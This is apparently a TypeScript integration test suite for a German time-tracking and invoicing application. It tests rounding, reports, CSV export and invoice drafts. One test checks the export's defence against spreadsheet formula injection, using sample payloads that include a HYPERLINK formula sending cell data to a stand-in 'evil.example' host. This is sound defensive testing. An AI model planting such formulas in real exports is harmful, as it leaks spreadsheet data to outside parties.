import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { codeOf, errorOf, unique, userWithRole, type Client } from '../helpers/users.ts';

/**
 * Amounts, billing rounding, reports and the CSV export. The rounding is a company-wide setting,
 * so every test that depends on it lives in this file (tests of one file run one after another).
 */
let app: TestApp;
let admin: Client;
let manager: Client;
let customerId: string;
beforeAll(async () => {
  app = await startTestApp();
  admin = (await userWithRole(app, 'Admin')).client;
  manager = (await userWithRole(app, 'Manager')).client;
  customerId = (await admin.crm.customers.create.mutate({ name: unique('Abrechnungskunde') })).id;
});
afterAll(async () => {
  await admin?.core.settings.update.mutate({ timeRoundingMinutes: 0 });
  await app?.close();
});

async function withRounding<T>(step: 0 | 5 | 15 | 30, fn: () => Promise<T>): Promise<T> {
  await admin.core.settings.update.mutate({ timeRoundingMinutes: step });
  try {
    return await fn();
  } finally {
    await admin.core.settings.update.mutate({ timeRoundingMinutes: 0 });
  }
}

describe('billing rounding', () => {
  it('rounds billed minutes up to the company step without rewriting the recorded times', async () => {
    const { client } = await userWithRole(app, 'Employee');
    const project = await manager.projects.create.mutate({ title: unique('Rundung'), customerId, hourlyRate: '90' });
    // 7 minutes and 61 minutes.
    const a = await client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: '2026-02-02T08:00:00Z', endTime: '2026-02-02T08:07:00Z' });
    const b = await client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: '2026-02-02T09:00:00Z', endTime: '2026-02-02T10:01:00Z' });
    const expected = { 0: [7, 61, '10.50', '91.50'], 5: [10, 65, '15.00', '97.50'], 15: [15, 75, '22.50', '112.50'], 30: [30, 90, '45.00', '135.00'] } as const;
    for (const step of [0, 5, 15, 30] as const) {
      await withRounding(step, async () => {
        const [billedA, billedB, amountA, amountB] = expected[step];
        const list = await client.timeTracking.entries.list.query({ projectId: project.id, sort: 'startTime', direction: 'asc' });
        expect(list.items.map((i) => [i.durationMinutes, i.billedMinutes, i.amount])).toEqual([
          [7, billedA, amountA],
          [61, billedB, amountB],
        ]);
        const stats = await client.timeTracking.summary.query({ projectId: project.id, groupBy: 'project' });
        expect(stats.roundingMinutes).toBe(step);
        expect(stats.totals).toMatchObject({ totalMinutes: 68, billableAmount: (Number(amountA.replace('.', '')) + Number(amountB.replace('.', ''))).toString().replace(/(\d\d)$/, '.$1') });
      });
    }
    const stored = await app.orm.em.fork().getConnection().execute<Array<{ duration_minutes: number; start_time: Date; end_time: Date }>>(
      'select duration_minutes, start_time, end_time from time_entries where id in (?, ?) order by start_time',
      [a.id, b.id],
    );
    expect(stored.map((r) => [r.duration_minutes, new Date(r.start_time).toISOString(), new Date(r.end_time).toISOString()])).toEqual([
      [7, '2026-02-02T08:00:00.000Z', '2026-02-02T08:07:00.000Z'],
      [61, '2026-02-02T09:00:00.000Z', '2026-02-02T10:01:00.000Z'],
    ]);
    expect(await codeOf(admin.core.settings.update.mutate({ timeRoundingMinutes: 10 } as never))).toBe('BAD_REQUEST');
    expect(await codeOf(manager.core.settings.update.mutate({ timeRoundingMinutes: 15 }))).toBe('FORBIDDEN');
  });

  it('amounts are exact to the cent (no float drift over many entries)', async () => {
    const { client, employee } = await userWithRole(app, 'Employee');
    await admin.core.employees.update.mutate({ id: employee.id, defaultHourlyRate: '0.10' });
    const project = await manager.projects.create.mutate({ title: unique('Cent'), customerId });
    // 30 entries of 1 minute at 0.10 €/h: each 0.00166… € rounds to 0.00 per entry.
    for (let i = 0; i < 30; i++) {
      const start = new Date(Date.UTC(2026, 1, 3, 8, i * 2));
      await client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: start.toISOString(), endTime: new Date(start.getTime() + 60_000).toISOString() });
    }
    // A rate on the entry needs timeTracking.rates: the admin records this one for the employee.
    const bigRate = await admin.timeTracking.entries.create.mutate({ employeeId: employee.id, projectId: project.id, startTime: '2026-02-03T12:00:00Z', endTime: '2026-02-03T12:20:00Z', hourlyRate: '0.35' });
    // 20 minutes × 0.35 €/h = 0.11666… → 0.12
    expect(bigRate.amount).toBe('0.12');
    const s = await client.timeTracking.summary.query({ projectId: project.id, groupBy: 'project' });
    expect(s.totals).toMatchObject({ totalMinutes: 50, billableAmount: '0.12', entryCount: 31 });
  });
});

describe('project statistics', () => {
  it('sums hours, billable value, unbilled amount and budget use in SQL', async () => {
    const { client } = await userWithRole(app, 'Employee');
    const project = await manager.projects.create.mutate({ title: unique('Budget'), customerId, hourlyRate: '100', budget: '1000' });
    await client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: '2026-02-10T08:00:00Z', endTime: '2026-02-10T11:00:00Z' });
    const invoiced = await client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: '2026-02-11T08:00:00Z', endTime: '2026-02-11T09:30:00Z' });
    await client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: '2026-02-12T08:00:00Z', endTime: '2026-02-12T08:45:00Z', billable: false });
    await app.orm.em.fork().getConnection().execute('update time_entries set is_invoiced = true where id = ?', [invoiced.id]);
    await client.timeTracking.start.mutate({ projectId: project.id });
    const s = await client.projects.statistics.query({ id: project.id });
    expect(s).toEqual({
      totalMinutes: 315,
      billableMinutes: 270,
      nonBillableMinutes: 45,
      totalHours: '5.25',
      billableHours: '4.50',
      billableAmount: '450.00',
      unbilledAmount: '300.00',
      invoicedAmount: '150.00',
      budgetUtilisation: '45.0',
      budgetRemaining: '550.00',
      overdue: false,
      daysUntilDeadline: null,
      completionPercentage: null,
      entryCount: 3,
      openEntryCount: 1,
      // An Employee has no finance rights: no revenue, expenses or margin (like the dashboard).
      revenue: null,
      expenses: null,
      margin: null,
    });
    expect(await manager.projects.statistics.query({ id: project.id })).toMatchObject({ totalMinutes: 315, revenue: '0.00', expenses: '0.00', margin: '0.00' });
    await client.timeTracking.stop.mutate({});
    const listed = await client.projects.list.query({ search: project.title });
    expect(listed.items[0]).toMatchObject({ totalMinutes: 315, billableAmount: '450.00', budgetUtilisation: '45.0' });
  });
});

describe('summary report', () => {
  it('groups by project, employee, customer, day, week and month (Europe/Berlin), split billable / non-billable', async () => {
    const anna = await userWithRole(app, 'Employee');
    const ben = await userWithRole(app, 'Employee');
    const customer2 = await admin.crm.customers.create.mutate({ name: unique('Zweitkunde') });
    const p1 = await manager.projects.create.mutate({ title: unique('Report A'), customerId, hourlyRate: '60' });
    const p2 = await manager.projects.create.mutate({ title: unique('Report B'), customerId: customer2.id, hourlyRate: '120' });
    // Sunday 1 March 2026 23:30 Berlin is still 1 March (UTC 22:30) — it belongs to the week of 23 Feb.
    await anna.client.timeTracking.entries.create.mutate({ projectId: p1.id, startTime: '2026-03-01T23:00:00+01:00', endTime: '2026-03-01T23:30:00+01:00' });
    await anna.client.timeTracking.entries.create.mutate({ projectId: p2.id, startTime: '2026-03-02T09:00:00+01:00', endTime: '2026-03-02T11:00:00+01:00' });
    await ben.client.timeTracking.entries.create.mutate({ projectId: p1.id, startTime: '2026-03-02T09:00:00+01:00', endTime: '2026-03-02T10:00:00+01:00', billable: false });
    await ben.client.timeTracking.entries.create.mutate({ startTime: '2026-04-01T09:00:00+02:00', endTime: '2026-04-01T09:15:00+02:00' });
    const filter = { from: '2026-03-01', to: '2026-04-30', employeeId: undefined } as const;
    const ours = <R extends { key: string | null }>(rows: R[], keys: Array<string | null>) => rows.filter((r) => keys.includes(r.key));

    const byProject = await admin.timeTracking.summary.query({ ...filter, customerId, groupBy: 'project' });
    expect(ours(byProject.rows, [p1.id])).toEqual([
      { key: p1.id, label: `${p1.projectNumber} ${p1.title}`, totalMinutes: 90, billableMinutes: 30, nonBillableMinutes: 60, billableAmount: '30.00', entryCount: 2 },
    ]);
    const byEmployee = await admin.timeTracking.summary.query({ ...filter, groupBy: 'employee' });
    const perEmployee = Object.fromEntries(ours(byEmployee.rows, [anna.employee.id, ben.employee.id]).map((r) => [r.key, [r.totalMinutes, r.billableMinutes, r.billableAmount]]));
    expect(perEmployee).toEqual({ [anna.employee.id]: [150, 150, '270.00'], [ben.employee.id]: [75, 0, '0.00'] });
    const byCustomer = await admin.timeTracking.summary.query({ ...filter, projectId: p2.id, groupBy: 'customer' });
    expect(byCustomer.rows).toEqual([expect.objectContaining({ key: customer2.id, label: customer2.name, totalMinutes: 120, billableAmount: '240.00' })]);

    const mine = { ...filter, employeeId: anna.employee.id };
    const byDay = await admin.timeTracking.summary.query({ ...mine, groupBy: 'day' });
    expect(byDay.rows.map((r) => [r.key, r.totalMinutes])).toEqual([
      ['2026-03-01', 30],
      ['2026-03-02', 120],
    ]);
    const byWeek = await admin.timeTracking.summary.query({ ...mine, groupBy: 'week' });
    expect(byWeek.rows.map((r) => [r.key, r.label, r.totalMinutes])).toEqual([
      ['2026-02-23', '2026-W09', 30],
      ['2026-03-02', '2026-W10', 120],
    ]);
    const byMonth = await admin.timeTracking.summary.query({ employeeId: ben.employee.id, groupBy: 'month' });
    expect(byMonth.rows.map((r) => [r.key, r.label, r.totalMinutes, r.billableMinutes])).toEqual([
      ['2026-03-01', '2026-03', 60, 0],
      ['2026-04-01', '2026-04', 15, 0],
    ]);
    const internal = await admin.timeTracking.summary.query({ employeeId: ben.employee.id, internal: true, groupBy: 'project' });
    expect(internal.rows).toEqual([expect.objectContaining({ key: null, label: '', totalMinutes: 15 })]);
    // The totals line is not a row, even beside the internal row whose key is empty too.
    expect(internal.totals).toEqual({ totalMinutes: 15, billableMinutes: 0, nonBillableMinutes: 15, billableAmount: '0.00', entryCount: 1 });
    expect(byDay.totals).toEqual({ totalMinutes: 150, billableMinutes: 150, nonBillableMinutes: 0, billableAmount: '270.00', entryCount: 2 });
    // Billable / approved filters.
    const billableOnly = await admin.timeTracking.summary.query({ employeeId: ben.employee.id, billable: true, groupBy: 'month' });
    expect(billableOnly.rows).toEqual([]);
    expect(billableOnly.totals).toEqual({ totalMinutes: 0, billableMinutes: 0, nonBillableMinutes: 0, billableAmount: '0.00', entryCount: 0 });
  });
});

describe('CSV export', () => {
  it('writes ; separated UTF-8 with BOM and decimal commas, quoting ; quotes and newlines in notes', async () => {
    const { client, employee } = await userWithRole(app, 'Employee');
    const project = await manager.projects.create.mutate({ title: unique('Export; "Spezial"'), customerId, hourlyRate: '85.50' });
    await client.timeTracking.entries.create.mutate({
      projectId: project.id, startTime: '2026-02-20T08:00:00+01:00', endTime: '2026-02-20T09:30:00+01:00', taskType: 'meeting',
      note: 'Abstimmung; Teil 1\nmit "Kunde" und Umlauten äöüß',
    });
    await client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: '2026-02-21T10:00:00+01:00', endTime: '2026-02-21T10:20:00+01:00', billable: false, note: 'kurz' });
    const csv = await client.timeTracking.exportCsv.query({ employeeId: employee.id, from: '2026-02-01', to: '2026-02-28' });
    expect(csv.rowCount).toBe(2);
    expect(csv.filename).toBe('zeiterfassung_2026-02-01_bis_2026-02-28.csv');
    expect(csv.content.charCodeAt(0)).toBe(0xfeff);
    const body = csv.content.slice(1);
    const lines = body.split('\r\n');
    expect(lines[0]).toBe(
      'Datum;Beginn;Ende;Dauer (Std.);Abrechenbare Dauer (Std.);Mitarbeiter;Projektnummer;Projekt;Kunde;Tätigkeit;Notiz;Abrechenbar;Stundensatz (EUR);Betrag (EUR);Genehmigt;Abgerechnet',
    );
    const projectCell = `"${project.title.replace(/"/g, '""')}"`;
    const customer = (await admin.crm.customers.get.query({ id: customerId })).name;
    const name = `${employee.lastName}, ${employee.firstName}`;
    // The note with ; " and a newline is quoted, quotes doubled, the newline kept inside the field.
    expect(body).toContain(
      `20.02.2026;08:00;09:30;1,50;1,50;${name};${project.projectNumber};${projectCell};${customer};Besprechung;"Abstimmung; Teil 1\nmit ""Kunde"" und Umlauten äöüß";ja;85,50;128,25;nein;nein\r\n`,
    );
    expect(body).toContain(`21.02.2026;10:00;10:20;0,33;0,00;${name};${project.projectNumber};${projectCell};${customer};Entwicklung;kurz;nein;85,50;0,00;nein;nein\r\n`);
    expect(body.endsWith('\r\n')).toBe(true);
    // UTF-8 round trip: the BOM is the three bytes EF BB BF.
    expect([...Buffer.from(csv.content, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('neutralises cells a spreadsheet would run as formulas (= + - @ TAB CR in front get a quote), numbers stay numbers', async () => {
    const { client, employee } = await userWithRole(app, 'Employee');
    // Every text column a user can fill: employee name, project number and title, customer, note.
    await admin.core.employees.update.mutate({ id: employee.id, firstName: '@SUM(A1)', lastName: '=Nachname' });
    const customer = await admin.crm.customers.create.mutate({ name: unique('+Kunde') });
    const project = await manager.projects.create.mutate({ title: unique('-Projekt'), customerId: customer.id, hourlyRate: '80' });
    const notes = ['=HYPERLINK("https://evil.example/?"&A1;"Klick")', '+1+1', '-2+3', '@cmd', '\t=1+1', '\r=1+1'];
    for (const [i, note] of notes.entries()) {
      const day = String(10 + i).padStart(2, '0');
      await client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: `2026-03-${day}T08:00:00+01:00`, endTime: `2026-03-${day}T09:00:00+01:00`, note });
    }
    const csv = await client.timeTracking.exportCsv.query({ employeeId: employee.id, from: '2026-03-01', to: '2026-03-31' });
    expect(csv.rowCount).toBe(notes.length);
    const body = csv.content.slice(1);
    const neutral = (text: string) => `"'${text.replace(/"/g, '""')}"`;
    // Notes are trimmed when stored, so TAB and CR in front are gone by then (csv.test.ts covers them).
    for (const note of notes) expect(body).toContain(`;${neutral(note.trim())};ja;80,00;80,00;`);
    expect(body).toContain(`;${neutral('=Nachname, @SUM(A1)')};`);
    expect(body).toContain(`;${neutral(project.title)};${neutral(customer.name)};`);
    // No cell of the export starts like a formula unless it is a quoted, neutralised one.
    const cells = body.split(/;|\r\n/);
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    // The numbers are numbers: hours, rate and amount without a quote.
    expect(body).toContain(';1,00;1,00;');
  });
});

describe('billing time into a draft ("Zeit abrechnen")', () => {
  const berlinToday = () => new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Berlin' }).format(new Date());
  /** A day of the previous calendar month (Berlin) and one two months before: both before "this month". */
  const earlierDays = () => {
    const [y, m] = berlinToday().split('-').map(Number) as [number, number];
    const firstOfMonth = Date.UTC(y, m - 1, 1);
    const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);
    return { lastOfPreviousMonth: day(firstOfMonth - 86_400_000), twoMonthsAgo: day(Date.UTC(y, m - 3, 15)) };
  };

  async function projectWithTime() {
    const { client } = await userWithRole(app, 'Employee');
    const project = await manager.projects.create.mutate({ title: unique('Abrechnen'), customerId, hourlyRate: '90' });
    const { lastOfPreviousMonth, twoMonthsAgo } = earlierDays();
    const entry = (day: string, from: string, to: string, extra: Record<string, unknown> = {}) =>
      client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: `${day}T${from}Z`, endTime: `${day}T${to}Z`, ...extra });
    const old = await entry(twoMonthsAgo, '08:00:00', '10:00:00');
    // The last day of the previous month: what the old calendar-month default silently left out.
    const lastDays = await entry(lastOfPreviousMonth, '08:00:00', '09:20:00');
    const sameDay = await entry(lastOfPreviousMonth, '13:00:00', '13:20:00', { taskType: 'meeting' });
    return { client, project, entries: { old, lastDays, sameDay }, days: { lastOfPreviousMonth, twoMonthsAgo } };
  }

  it('without a range, bills ALL unbilled billable time up to today, previous months included', async () => {
    const { project, entries, days } = await projectWithTime();
    const draft = await admin.invoices.createFromTimeEntries.mutate({ projectId: project.id, groupBy: 'entry' });
    expect(draft.lines.map((l) => [l.quantity, l.unitPrice, l.netAmount, l.timeEntryCount])).toEqual([
      ['2', '90.00', '180.00', 1],
      ['1.3333', '90.00', '120.00', 1],
      ['0.3333', '90.00', '30.00', 1],
    ]);
    expect([draft.servicePeriodFrom, draft.servicePeriodTo]).toEqual([days.twoMonthsAgo, days.lastOfPreviousMonth]);
    const billed = await admin.timeTracking.entries.list.query({ projectId: project.id });
    expect(billed.items.map((e) => [e.id, e.isInvoiced]).sort()).toEqual([entries.old.id, entries.lastDays.id, entries.sameDay.id].sort().map((id) => [id, true]));
    // Nothing is left: a second run finds nothing, and says so for the default range.
    const again = await errorOf(admin.invoices.createFromTimeEntries.mutate({ projectId: project.id }));
    expect([again.code, again.message]).toEqual(['CONFLICT', 'There is no unbilled billable time on this project up to that day']);
  });

  it('a lower bound (from) still limits the range when given; `to` alone bills everything up to that day', async () => {
    const { project, entries, days } = await projectWithTime();
    const preview = await admin.invoices.previewFromTimeEntries.query({ projectId: project.id, to: days.twoMonthsAgo });
    expect([preview.entryCount, preview.from, preview.to]).toEqual([1, null, days.twoMonthsAgo]);
    const draft = await admin.invoices.createFromTimeEntries.mutate({ projectId: project.id, from: days.lastOfPreviousMonth, to: days.lastOfPreviousMonth, groupBy: 'total' });
    expect(draft.lines.map((l) => [l.quantity, l.netAmount, l.timeEntryCount])).toEqual([['1.6667', '150.00', 2]]);
    const open = await admin.timeTracking.entries.list.query({ projectId: project.id, invoiced: false });
    expect(open.items.map((e) => e.id)).toEqual([entries.old.id]);
  });

  it('the preview shows exactly what the draft then contains, and creates nothing', async () => {
    const { project, days } = await projectWithTime();
    for (const groupBy of ['entry', 'day', 'task_type', 'total'] as const) {
      const preview = await admin.invoices.previewFromTimeEntries.query({ projectId: project.id, groupBy });
      expect(preview).toMatchObject({ from: null, to: berlinToday(), firstDay: days.twoMonthsAgo, lastDay: days.lastOfPreviousMonth, entryCount: 3, totalMinutes: 220, netTotal: '330.00' });
      expect(preview.lines.length).toBeGreaterThan(0);
    }
    const preview = await admin.invoices.previewFromTimeEntries.query({ projectId: project.id, groupBy: 'day' });
    expect(preview.lines.map((l) => [l.quantity, l.netAmount, l.entryCount, l.kind])).toEqual([
      ['2', '180.00', 1, 'time'],
      ['1.6667', '150.00', 2, 'time'],
    ]);
    // The preview wrote nothing: no draft, no entry billed.
    expect((await admin.invoices.list.query({ projectId: project.id })).total).toBe(0);
    expect((await admin.timeTracking.entries.list.query({ projectId: project.id, invoiced: false })).total).toBe(3);

    const draft = await admin.invoices.createFromTimeEntries.mutate({ projectId: project.id, groupBy: 'day', to: preview.to ?? undefined });
    expect(draft.lines.map((l) => ({ description: l.description, quantity: l.quantity, unit: l.unit, unitPrice: l.unitPrice, taxRate: l.taxRate, netAmount: l.netAmount, entryCount: l.timeEntryCount }))).toEqual(
      preview.lines.map(({ kind: _kind, ...line }) => line),
    );
    expect(draft.netTotal).toBe(preview.netTotal);
    expect([draft.servicePeriodFrom, draft.servicePeriodTo]).toEqual([preview.firstDay, preview.lastDay]);
  });

  it('never creates a line of 0 h / 0,00 €: entries of no billed minutes make no line and stay unbilled', async () => {
    const { client } = await userWithRole(app, 'Employee');
    const project = await manager.projects.create.mutate({ title: unique('Nullzeit'), customerId, hourlyRate: '90' });
    const { lastOfPreviousMonth } = earlierDays();
    // 20 seconds: recorded as 0 minutes (a timer started and stopped at once).
    const zero = await client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: `${lastOfPreviousMonth}T07:00:00Z`, endTime: `${lastOfPreviousMonth}T07:00:20Z` });
    expect(zero.durationMinutes).toBe(0);
    // Only zero time: nothing to preview, nothing to bill.
    const empty = await admin.invoices.previewFromTimeEntries.query({ projectId: project.id, groupBy: 'entry' });
    expect([empty.lines, empty.entryCount, empty.netTotal]).toEqual([[], 0, '0.00']);
    expect(await codeOf(admin.invoices.createFromTimeEntries.mutate({ projectId: project.id, groupBy: 'entry' }))).toBe('CONFLICT');
    expect(await codeOf(admin.invoices.createFromTimeEntries.mutate({ projectId: project.id, entryIds: [zero.id] }))).toBe('CONFLICT');

    const real = await client.timeTracking.entries.create.mutate({ projectId: project.id, startTime: `${lastOfPreviousMonth}T08:00:00Z`, endTime: `${lastOfPreviousMonth}T08:30:00Z` });
    for (const groupBy of ['entry', 'day', 'total'] as const) {
      const preview = await admin.invoices.previewFromTimeEntries.query({ projectId: project.id, groupBy });
      expect(preview.lines.map((l) => [l.quantity, l.netAmount, l.entryCount])).toEqual([['0.5', '45.00', 1]]);
    }
    const draft = await admin.invoices.createFromTimeEntries.mutate({ projectId: project.id, groupBy: 'entry' });
    expect(draft.lines.map((l) => [l.quantity, l.netAmount, l.timeEntryCount])).toEqual([['0.5', '45.00', 1]]);
    expect(draft.lines.every((l) => l.quantity !== '0' && l.netAmount !== '0.00')).toBe(true);
    const entries = await admin.timeTracking.entries.list.query({ projectId: project.id, sort: 'startTime', direction: 'asc' });
    expect(entries.items.map((e) => [e.id, e.isInvoiced])).toEqual([
      [zero.id, false],
      [real.id, true],
    ]);
  });
});
